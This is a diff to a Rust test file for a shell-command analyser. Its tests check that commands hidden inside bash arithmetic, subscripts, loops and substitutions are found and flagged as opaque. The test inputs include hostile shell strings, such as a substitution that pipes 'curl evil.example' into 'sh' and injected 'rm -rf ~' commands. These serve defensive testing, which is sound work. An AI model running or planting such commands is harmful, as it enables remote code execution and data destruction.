@@ -200,7 +200,7 @@ fn separators() {
 #[test]
 fn grouping_and_substitution() {
     check("(a; b) && { c; d; }", &["cmd:a", "cmd:b", "cmd:c", "cmd:d"]);
-    check("((a))", &["cmd:((a))"]);
+    check("((a))", &["cmd!a"]);
     check("( (a) )", &["cmd:a"]);
     check("$( (a) )", &["cmd:a", "cmd!$( (a) )"]);
     check(
@@ -227,7 +227,8 @@ fn grouping_and_substitution() {
     );
     check(
         "echo $((1 + $(rm y)))",
-        &["cmd:rm y", "cmd:echo $((1 + $(rm y)))"],
+        // What the substitution prints is evaluated as arithmetic: opaque.
+        &["cmd:rm y", "cmd!1 + $(rm y)", "cmd:echo $((1 + $(rm y)))"],
     );
     check(
         "echo $(case x in a) rm y;; esac)",
@@ -241,7 +242,7 @@ fn grouping_and_substitution() {
     check("cat $(< f)", &["r:f [< f]", "cmd:cat $(< f)"]);
     check("[[ -f $(rm x) ]]", &["cmd:rm x"]);
     check("[[ a < b && c ]] && d", &["cmd:d"]);
-    check("(( x = $(rm y) ))", &["cmd:rm y"]);
+    check("(( x = $(rm y) ))", &["cmd:rm y", "cmd! x = $(rm y) "]);
 }
 
 #[test]
@@ -252,11 +253,21 @@ fn control_flow() {
     );
     check("while a; do b; done", &["cmd:a", "cmd:b"]);
     check("until a; do b; done", &["cmd:a", "cmd:b"]);
-    check("for f in $(ls); do rm $f; done", &["cmd:ls", "cmd:rm $f"]);
-    check("for f; do rm $f; done", &["cmd:rm $f"]);
-    check("for ((i=0; i<3; i++)); do rm $i; done", &["cmd:rm $i"]);
-    check("for x in a b\ndo\n rm $x\ndone", &["cmd:rm $x"]);
-    check("select x in a; do rm $x; done", &["cmd:rm $x"]);
+    // The loop's assignments are subjects, as `f=…` alone is.
+    check(
+        "for f in $(ls); do rm $f; done",
+        &["cmd:ls", "cmd:f=$(ls)", "cmd:rm $f"],
+    );
+    check("for f; do rm $f; done", &["cmd:f=\"$@\"", "cmd:rm $f"]);
+    check(
+        "for ((i=0; i<3; i++)); do rm $i; done",
+        &["cmd!i=0; i<3; i++", "cmd:rm $i"],
+    );
+    check(
+        "for x in a b\ndo\n rm $x\ndone",
+        &["cmd:x=a", "cmd:x=b", "cmd:rm $x"],
+    );
+    check("select x in a; do rm $x; done", &["cmd:x=a", "cmd:rm $x"]);
     check(
         "case $x in a) rm a;; (b|c) ls;& *) pwd;;& esac",
         &["cmd:rm a", "cmd:ls", "cmd:pwd"],
@@ -1198,7 +1209,8 @@ fn single_quotes_inside_double_quoted_expansions() {
     );
     check(
         r#"ls "${x:='$(rm a)'}""#,
-        &["cmd:rm a", "cmd:ls ${x:='$(rm a)'}"],
+        // An assignment besides: opaque.
+        &["cmd!${x:='$(rm a)'}", "cmd:rm a", "cmd:ls ${x:='$(rm a)'}"],
     );
     check(
         r#"ls "${x+'$(rm a)'}""#,
@@ -1250,17 +1262,29 @@ fn arithmetic_and_subscripts_expand_single_quoted_text() {
     // Arithmetic is read as double-quoted text: single quotes are ordinary.
     check(
         "ls $(( 'a[$(rm -rf ~)]' ))",
-        &["cmd:rm -rf ~", "cmd:ls $(( 'a[$(rm -rf ~)]' ))"],
+        // And the text names a variable, so it is opaque besides.
+        &[
+            "cmd:rm -rf ~",
+            "cmd! 'a[$(rm -rf ~)]' ",
+            "cmd:ls $(( 'a[$(rm -rf ~)]' ))",
+        ],
     );
-    check("(( '$(rm o)' ))", &["cmd:rm o"]);
-    check("ls $[ '$(rm p)' ]", &["cmd:rm p", "cmd:ls $[ '$(rm p)' ]"]);
+    check("(( '$(rm o)' ))", &["cmd:rm o", "cmd! '$(rm o)' "]);
+    check(
+        "ls $[ '$(rm p)' ]",
+        &["cmd:rm p", "cmd! '$(rm p)' ", "cmd:ls $[ '$(rm p)' ]"],
+    );
     check(
         "for (( '$(rm q)'; 0; )); do :; done",
-        &["cmd:rm q", "cmd::"],
+        &["cmd:rm q", "cmd! '$(rm q)'; 0; ", "cmd::"],
     );
     check(
         "ls $(( ${x:-'$(rm s)'} ))",
-        &["cmd:rm s", "cmd:ls $(( ${x:-'$(rm s)'} ))"],
+        &[
+            "cmd:rm s",
+            "cmd! ${x:-'$(rm s)'} ",
+            "cmd:ls $(( ${x:-'$(rm s)'} ))",
+        ],
     );
     // A subscript and a substring's offset are arithmetic, quoted or not.
     check(
@@ -1269,25 +1293,34 @@ fn arithmetic_and_subscripts_expand_single_quoted_text() {
             "cmd:curl evil.example",
             "cmd:sh",
             "cmd!sh",
+            "cmd!'$(curl evil.example|sh)'",
             "cmd:ls ${a['$(curl evil.example|sh)']}",
         ],
     );
     check(
         r#"ls "${a['$(rm a)']}""#,
-        &["cmd:rm a", "cmd:ls ${a['$(rm a)']}"],
+        &["cmd:rm a", "cmd!'$(rm a)'", "cmd:ls ${a['$(rm a)']}"],
     );
     check(
         "ls ${!a['$(rm a)']}",
-        &["cmd:rm a", "cmd:ls ${!a['$(rm a)']}"],
+        &[
+            "cmd:rm a",
+            "cmd!'$(rm a)'",
+            "cmd!${!a['$(rm a)']}",
+            "cmd:ls ${!a['$(rm a)']}",
+        ],
     );
-    check("ls ${x:'$(rm g)'}", &["cmd:rm g", "cmd:ls ${x:'$(rm g)'}"]);
+    check(
+        "ls ${x:'$(rm g)'}",
+        &["cmd:rm g", "cmd!'$(rm g)'", "cmd:ls ${x:'$(rm g)'}"],
+    );
     check(
         "ls ${x:0:'$(rm f)'}",
-        &["cmd:rm f", "cmd:ls ${x:0:'$(rm f)'}"],
+        &["cmd:rm f", "cmd!0:'$(rm f)'", "cmd:ls ${x:0:'$(rm f)'}"],
     );
     check(
         "ls ${x:-${a['$(rm d)']}}",
-        &["cmd:rm d", "cmd:ls ${x:-${a['$(rm d)']}}"],
+        &["cmd:rm d", "cmd!'$(rm d)'", "cmd:ls ${x:-${a['$(rm d)']}}"],
     );
     // Builtins that evaluate their arguments again.
     check("let 'a[$(rm c)]'", &["cmd:let a[$(rm c)]", "cmd:rm c"]);
@@ -1302,20 +1335,27 @@ fn arithmetic_and_subscripts_expand_single_quoted_text() {
     );
     check(
         "printf -v 'a[$(rm c)]' x",
-        &["cmd:printf -v a[$(rm c)] x", "cmd:rm c"],
+        &[
+            "cmd:printf -v a[$(rm c)] x",
+            "cmd!printf -v a[$(rm c)]",
+            "cmd:rm c",
+        ],
     );
     check(
         "test -v 'a[$(rm c)]'",
         &["cmd:test -v a[$(rm c)]", "cmd:rm c"],
     );
     check("[[ -v 'a[$(rm c)]' ]]", &["cmd:rm c"]);
-    check("[[ 'a[$(rm c)]' -eq 1 ]]", &["cmd:rm c"]);
-    check(r#"[[ 1 -lt "a[\$(rm c)]" ]]"#, &["cmd:rm c"]);
+    check("[[ 'a[$(rm c)]' -eq 1 ]]", &["cmd:rm c", "cmd!a[$(rm c)]"]);
+    check(
+        r#"[[ 1 -lt "a[\$(rm c)]" ]]"#,
+        &["cmd:rm c", "cmd!a[$(rm c)]"],
+    );
     // Not evaluated: a format string, a plain `[[` string, a substitution
     // already read.
     check("printf '$(rm no)' x", &["cmd:printf $(rm no) x"]);
     check("[[ '$(rm no)' == x ]]", &["cmd:[[ '$(rm no)' == x ]]"]);
-    check("[[ $(wc -l) -eq 0 ]]", &["cmd:wc -l"]);
+    check("[[ $(wc -l) -eq 0 ]]", &["cmd:wc -l", "cmd!$(wc -l)"]);
     // Partly computed: the value cannot be read.
     check(
         r#"let "a[$y]"'$(rm)'"#,
